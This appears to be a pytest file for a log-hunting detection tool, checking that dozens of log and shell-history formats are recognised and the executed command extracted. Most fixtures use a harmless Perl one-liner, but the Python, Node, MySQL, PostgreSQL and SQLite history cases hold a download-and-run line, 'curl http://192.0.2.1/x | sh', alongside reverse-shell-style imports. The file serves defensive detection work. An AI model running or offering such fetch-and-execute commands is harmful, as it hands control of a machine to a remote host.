"""Every format: one log of it, written anew, is recognised by its content, and what ran in it is found with what the format carries."""

from __future__ import annotations

import json
from typing import NamedTuple

import pytest

from flycatcher.sources.logs import formats
from flycatcher.sources.logs.engine.recognise import recognise
from tests.hunt.helpers import event, hunted, written

SYSMON = (
    "<Event><System><Provider Name='Linux-Sysmon'/><EventID>1</EventID><Computer>web1</Computer></System><EventData>"
    '<Data Name="UtcTime">2026-03-01 10:00:00.000</Data><Data Name="ProcessGuid">{a}</Data><Data Name="ProcessId">77</Data>'
    '<Data Name="Image">/usr/bin/perl</Data><Data Name="CommandLine">perl -e print &quot;x&quot;</Data><Data Name="CurrentDirectory">/srv</Data>'
    '<Data Name="User">www</Data><Data Name="ParentImage">/usr/sbin/nginx</Data><Data Name="ParentCommandLine">nginx -g</Data></EventData></Event>'
)


class Case(NamedTuple):
    """A log, and what is expected of it: text, certainty (empty for a list of words), host, user."""

    lines: list[object]
    text: str
    certainty: str = ""
    host: str = ""
    user: str = ""
    level: str = ""
    name: str = "log"


CASES = {
    "auditd": Case(["".join(event(1, ["perl", "-e", "print 1"], exe="/usr/bin/perl", node="web1")).rstrip()], "print 1", host="web1", user="0"),
    "laurel": Case(
        [{"ID": "1700000000.1:1", "NODE": "web1", "SYSCALL": {"success": "yes", "pid": 5, "ppid": 1, "exe": "/usr/bin/perl", "UID": "www", "uid": 33},
          "EXECVE": {"argc": 3, "ARGV": ["perl", "-e", "print 1%25%2b2"]}, "CWD": {"cwd": "/srv"}}],
        "print 1%+2", host="web1", user="www",
    ),
    "ecs": Case(
        [{"@timestamp": "2026-03-01T10:00:00Z", "event": {"action": "executed", "outcome": "success"}, "user": {"name": "www"}, "host": {"name": "web1"},
          "process": {"pid": 5, "args": ["perl", "-e", "print 1"], "executable": "/usr/bin/perl", "working_directory": "/srv"}}],
        "print 1", host="web1", user="www",
    ),
    "sysmon": Case([f"Mar  1 10:00:00 web1 sysmon: {SYSMON}"], 'print "x"', "certain", "web1", "www"),
    "falco": Case(
        [{"hostname": "web1", "rule": "Spawned", "time": "2026-03-01T10:00:00Z", "output": "x", "priority": "Notice",
          "output_fields": {"proc.cmdline": "perl -e print 1", "proc.exepath": "/usr/bin/perl", "proc.pname": "nginx", "user.name": "www"}}],
        "print 1", "certain", "web1", "www",
    ),
    "tetragon": Case(
        [{"process_exec": {"process": {"exec_id": "a", "binary": "/usr/bin/perl", "arguments": '-e "print 1" x', "cwd": "/srv", "uid": 33, "flags": "execve"},
                           "parent": {"binary": "/usr/sbin/nginx", "pid": 4}}, "node_name": "web1", "time": "2026-03-01T10:00:00Z"}],
        "print 1", "certain", "web1", "33",
    ),
    "tracee": Case(
        [{"timestamp": 1700000000000000000, "processId": 5, "hostName": "web1", "userId": 33, "eventName": "sched_process_exec", "returnValue": 0,
          "args": [{"name": "pathname", "value": "/usr/bin/perl"}, {"name": "argv", "value": ["perl", "-e", "print 1"]}]}],
        "print 1", host="web1", user="33",
    ),
    "osquery": Case(
        [{"name": "process_events", "hostIdentifier": "web1", "unixTime": 1700000000, "action": "added",
          "columns": {"path": "/usr/bin/perl", "cmdline": "perl -e print 1", "pid": "5", "uid": "33", "cmdline_size": "16"}}],
        "print 1", "certain", "web1", "33",
    ),
    "ocsf": Case(
        [{"class_uid": 1007, "activity_id": 1, "time": 1700000000000, "device": {"hostname": "web1"}, "actor": {"user": {"name": "www"}},
          "process": {"cmd_line": "perl -e print 1", "file": {"path": "/usr/bin/perl"}, "pid": 5, "parent_process": {"cmd_line": "nginx", "pid": 1}}}],
        "print 1", "certain", "web1", "www",
    ),
    "defender": Case(
        [{"Timestamp": "2026-03-01T10:00:00Z", "DeviceName": "web1", "ActionType": "ProcessCreated", "FolderPath": "/usr/bin/perl", "FileName": "perl",
          "ProcessCommandLine": "perl -e print 1", "AccountName": "www", "InitiatingProcessCommandLine": "nginx"}],
        "print 1", "certain", "web1", "www",
    ),
    "splunk": Case(
        [{"result": {"_time": "2026-03-01T10:00:00Z", "dest": "web1", "user": "www", "process": "perl -e print 1", "process_path": "/usr/bin/perl"}}],
        "print 1", "certain", "web1", "www",
    ),
    "wazuh": Case(
        [{"timestamp": "2026-03-01T10:00:00Z", "agent": {"name": "web1"}, "rule": {"id": "1"},
          "data": {"audit": {"exe": "/usr/bin/perl", "success": "yes", "uid": "33", "execve": {"a0": "perl", "a1": "-e", "a2": "print 1"}}}}],
        "print 1", host="web1", user="33",
    ),
    "kubernetes": Case(
        [{"kind": "Event", "auditID": "1", "stage": "ResponseComplete", "verb": "create", "user": {"username": "ann"}, "responseStatus": {"code": 101},
          "requestURI": "/api/v1/namespaces/d/pods/web1/exec?command=perl&command=-e&command=print%201&container=c&stdin=true",
          "objectRef": {"resource": "pods", "name": "web1", "subresource": "exec"}, "requestReceivedTimestamp": "2026-03-01T10:00:00Z"}],
        "print 1", host="web1", user="ann",
    ),
    "cowrie": Case(
        [{"eventid": "cowrie.command.input", "input": "perl -e 'print 1'", "timestamp": "2026-03-01T10:00:00Z", "session": "s", "sensor": "web1"}],
        "print 1", host="web1",
    ),
    "journal": Case(
        [{"__REALTIME_TIMESTAMP": "1700000000000000", "_HOSTNAME": "web1", "_CMDLINE": "perl -e print 1", "_EXE": "/usr/bin/perl", "_PID": "5", "_UID": "33",
          "MESSAGE": "hello"}],
        "print 1", "certain", "web1", "33",
    ),
    "journal-export": Case(
        ["__CURSOR=x", "__REALTIME_TIMESTAMP=1700000000000000", "_HOSTNAME=web1", "_EXE=/usr/bin/perl", "_CMDLINE=perl -e print 1", "_UID=33", "MESSAGE=hello", ""],
        "print 1", "certain", "web1", "33",
    ),
    "syslog": Case(["Mar  1 10:00:00 web1 CRON[5]: (www) CMD (perl -e 'print 1')"], "print 1", host="web1", user="www"),
    "auoms": Case(
        ['Mar  1 10:00:00 web1 auoms: type=AUOMS_EXECVE audit(1700000000.000:5): success=yes exe="/usr/bin/perl" uid=33 user="www" '
         'cmdline="perl -e \'print 1\'" redactors=""'],
        "print 1", user="www",
    ),
    "github-log": Case(
        ["2026-03-01T10:00:00.0000000Z ##[group]Run perl -e 'print 1'", "2026-03-01T10:00:00.0000000Z \x1b[36;1mperl -e 'print 1'\x1b[0m",
         "2026-03-01T10:00:00.0000000Z shell: /usr/bin/bash -e {0}", "2026-03-01T10:00:00.0000000Z ##[endgroup]"],
        "print 1",
    ),
    "gitlab-log": Case(["section_start:1700000000:step_script\r\x1b[0K", "\x1b[32;1m$ perl -e 'print 1'\x1b[0;m"], "print 1"),
    "jenkins-log": Case(["Started by user ann", "[Pipeline] sh", "+ perl -e 'print 1'"], "print 1"),
    "azure-log": Case(["2026-03-01T10:00:00.0Z ##[section]Starting: x", "2026-03-01T10:00:00.0Z ##[command]perl -e 'print 1'"], "print 1"),
    "bash-history": Case(["#1700000000", "perl -e 'print 1'"], "print 1"),
    "zsh-history": Case([": 1700000000:0;perl -e \\\\", "'print 1'"], "print 1"),
    "fish-history": Case(["- cmd: perl -e 'print 1'", "  when: 1700000000"], "print 1"),
    "container-image": Case(
        [{"architecture": "amd64", "rootfs": {}, "config": {}, "history": [{"created": "2026-03-01T10:00:00Z",
          "created_by": "RUN |1 TOKEN=abc /bin/sh -c perl -e 'print 1' # buildkit"}]}],
        "print 1",
    ),
    "flycatcher": Case([{"argv": ["perl", "-e", "print 1"], "time": "2026-03-01T10:00:00Z", "host": "web1"}], "print 1", host="web1"),
    "wrapped": Case(
        [{"TimeGenerated": "2026-03-01T10:00:00Z", "Computer": "web1", "SyslogMessage": line} for line in
         (line.rstrip() for line in event(1, ["perl", "-e", "print 1"], exe="/usr/bin/perl"))],
        "print 1", host="web1", user="0",
    ),
    "python-history": Case(["import socket, os, pty", "import os; os.system('curl http://192.0.2.1/x | sh')"], "import os; os.system('curl http://192.0.2.1/x | sh')", name=".python_history"),
    "node-history": Case(["require('child_process').exec('curl http://192.0.2.1/x | sh')"], "require('child_process').exec('curl http://192.0.2.1/x | sh')", name=".node_repl_history"),
    "mysql-history": Case(["_HiStOrY_V2_", "select\\0401;", "\\\\!\\040curl\\040http://192.0.2.1/x\\040|\\040sh"], "curl http://192.0.2.1/x | sh", name=".mysql_history"),
    "psql-history": Case(["select 1;", "\\! curl http://192.0.2.1/x | sh"], "curl http://192.0.2.1/x | sh", name=".psql_history"),
    "sqlite-history": Case(["select 1;", ".shell curl http://192.0.2.1/x | sh"], "curl http://192.0.2.1/x | sh", name=".sqlite_history"),
}  # fmt: skip


def text_of(case: Case) -> str:
    return "".join(f"{line if isinstance(line, str) else json.dumps(line)}\n" for line in case.lines)


def test_every_format_has_a_case():
    assert set(CASES) == set(formats())


@pytest.mark.parametrize("form", sorted(CASES))
def test_a_log_is_recognised_by_what_it_holds(form):
    make = recognise(text_of(CASES[form]).encode("utf-8", "surrogateescape"), CASES[form].name)
    assert getattr(make, "name", make) == form


@pytest.mark.parametrize("form", sorted(CASES))
def test_what_ran_is_found_with_what_the_format_tells(tmp_path, form):
    case = CASES[form]
    found, _, _ = hunted(written(tmp_path, text_of(case), case.name))
    assert [each.detection.snippets[0].text for each in found] == [case.text]
    fidelity = found[0].detection.execution.fidelity
    assert (fidelity.certainty, found[0].host, found[0].user) == (case.certainty, case.host, case.user)
    assert fidelity.log == str(tmp_path / case.name)
    assert fidelity.line >= 1


@pytest.mark.parametrize("form", sorted(CASES))
def test_a_named_format_reads_the_same(tmp_path, form):
    case = CASES[form]
    assert len(hunted(written(tmp_path, text_of(case)), form=form)[0]) == 1


@pytest.mark.parametrize("form", sorted(set(CASES) - {"auditd", "wrapped", "journal-export"}))
def test_the_same_program_has_the_same_id_whichever_log_tells_of_it(tmp_path, form):
    case = CASES[form]
    if case.text != "print 1":
        pytest.skip("another program")
    if form == "tetragon":
        pytest.skip("its line has an operand")
    (found,), _, _ = hunted(written(tmp_path, text_of(case)))
    (other,), _, _ = hunted(written(tmp_path, text_of(CASES["auditd"]), "other"))
    assert found.detection.id == other.detection.id
